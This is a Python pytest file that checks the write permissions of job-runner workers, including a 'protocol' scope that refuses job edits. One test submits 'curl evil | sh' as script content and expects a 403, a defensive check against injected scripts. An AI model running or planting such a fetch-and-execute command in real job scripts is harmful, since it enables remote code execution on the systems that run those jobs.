"""What a worker may write: the protocol's fields on its own runs and itself,
and with worker_write_scope = protocol nothing else."""
from datetime import timedelta

import pytest
import webtest

from jobrunner import main
from jobrunner.models import Job, Run, Worker
from tests.api.conftest import HOST, assert_error
from tests.conftest import WorkerClient, app_settings, now, uri
from tests.security.test_signature_v2 import factory_for


def claim(client, run):
    return client.patch(uri("run", run), {"enqueue_dts": now().isoformat()})


def test_a_worker_sets_only_its_ping_version_and_concurrency(world, as_worker, dbsession):
    client = as_worker(world.worker)
    for field, value in (("enqueue_is_enabled", False), ("title", "renamed"), ("description", "x")):
        body = assert_error(client.patch(uri("worker", world.worker), {field: value}, status=403), 403)
        assert field in body["errors"]
    dbsession.expire_all()
    worker = dbsession.get(Worker, world.worker.id)
    assert worker.enqueue_is_enabled and worker.title != "renamed"
    client.patch(uri("worker", world.worker), {"worker_version": "2", "concurrent_jobs": 3})
    # Sending back the unchanged object it read is fine.
    res = client.get(uri("worker", world.worker)).json
    client.patch(uri("worker", world.worker), {"title": res["title"], "enqueue_is_enabled": True})


def test_a_ping_is_taken_by_the_servers_clock(world, as_worker, dbsession):
    client = as_worker(world.worker)
    future = now() + timedelta(days=365)
    before = now()
    res = client.patch(uri("worker", world.worker), {"ping_response_dts": future.isoformat()})
    after = now()
    dbsession.expire_all()
    stored = dbsession.get(Worker, world.worker.id).ping_response_dts
    assert before <= stored <= after
    assert res.json["ping_response_dts"] == stored.isoformat()


def test_releasing_a_started_run_is_409(world, factory, as_worker, dbsession):
    run = factory.run(world.job)
    client = as_worker(world.worker)
    claim(client, run)
    client.patch(uri("run", run), {"start_dts": now().isoformat(), "pid": 42})
    for body in ({"enqueue_dts": None, "start_dts": None}, {"enqueue_dts": None, "start_dts": None, "worker": None}):
        assert_error(client.patch(uri("run", run), body, status=409), 409)
    dbsession.expire_all()
    stored = dbsession.get(Run, run.id)
    assert stored.start_dts is not None and stored.pid == 42 and stored.worker_id == world.worker.id


def test_a_log_is_read_only_once_its_run_returned(world, factory, as_worker, dbsession):
    run = factory.run(world.job)
    client = as_worker(world.worker)
    claim(client, run)
    client.patch(uri("run", run), {"start_dts": now().isoformat()})
    log = client.post("/api/v1/run_log/", {"run": uri("run", run), "content": "done"}).json
    client.patch(uri("run", run), {"return_dts": now().isoformat(), "return_success": True})
    assert_error(client.patch(log["resource_uri"], {"content": "rewritten"}, status=409), 409)
    other = factory.run(world.job)
    claim(client, other)
    client.patch(uri("run", other), {"start_dts": now().isoformat()})
    client.patch(uri("run", other), {"return_dts": now().isoformat(), "return_success": False})
    assert_error(client.post("/api/v1/run_log/", {"run": uri("run", other), "content": "late"}, status=409), 409)
    dbsession.expire_all()
    assert dbsession.get(Run, run.id).run_log.content == "done"


def test_a_worker_moves_the_schedule_only_of_a_run_it_holds_and_that_has_not_returned(
        world, factory, as_worker, dbsession):
    run = factory.run(world.job)
    original = run.schedule_dts
    client = as_worker(world.worker)
    later = (now() + timedelta(hours=1)).isoformat()
    assert_error(client.patch(uri("run", run), {"schedule_dts": later}, status=403), 403)
    claim(client, run)
    client.patch(uri("run", run), {"start_dts": now().isoformat()})
    client.patch(uri("run", run), {"return_dts": now().isoformat(), "return_success": True})
    assert_error(client.patch(uri("run", run), {"schedule_dts": later}, status=409), 409)
    dbsession.expire_all()
    assert dbsession.get(Run, run.id).schedule_dts == original


@pytest.fixture
def protocol_app(database_url, mail_sink, connection):
    app = main({}, **app_settings(database_url, mail_sink.port, **{"jobrunner.worker_write_scope": "protocol"}))
    app.registry["dbsession_factory"] = factory_for(connection)
    return webtest.TestApp(app, extra_environ={"HTTP_HOST": HOST})


def test_protocol_scope_refuses_everything_beyond_the_protocol(protocol_app, world, factory, dbsession):
    client = WorkerClient(protocol_app, world.worker)
    job_uri = uri("job", world.job)
    assert_error(client.patch(job_uri, {"script_content_partial": "curl evil | sh"}, status=403), 403)
    assert_error(client.put(job_uri, {"script_content_partial": "curl evil | sh"}, status=403), 403)
    assert_error(client.post("/api/v1/job/", {"title": "x", "job_template": world.template.id,
                                              "worker_pool": world.pool.id}, status=403), 403)
    assert_error(client.post("/api/v1/run/", {"job": world.job.id}, status=403), 403)
    dbsession.expire_all()
    assert dbsession.get(Job, world.job.id).script_content_partial == "echo hello"
    # The protocol itself works.
    run = factory.run(world.job)
    claim(client, run)
    client.patch(uri("run", run), {"start_dts": now().isoformat()})
    client.post("/api/v1/run_log/", {"run": uri("run", run), "content": "x"})
    client.patch(uri("run", run), {"return_dts": now().isoformat(), "return_success": True})
    client.patch(uri("worker", world.worker), {"ping_response_dts": now().isoformat()})


def test_all_scope_lets_a_worker_edit_jobs_as_before(world, as_worker):
    res = as_worker(world.worker).patch(uri("job", world.job), {"description": "by a worker"})
    assert res.json["description"] == "by a worker"


def test_an_unknown_scope_refuses_to_start(database_url, mail_sink):
    from jobrunner.settings import SettingsError as InvalidScope

    with pytest.raises(InvalidScope):
        main({}, **app_settings(database_url, mail_sink.port, **{"jobrunner.worker_write_scope": "some"}))
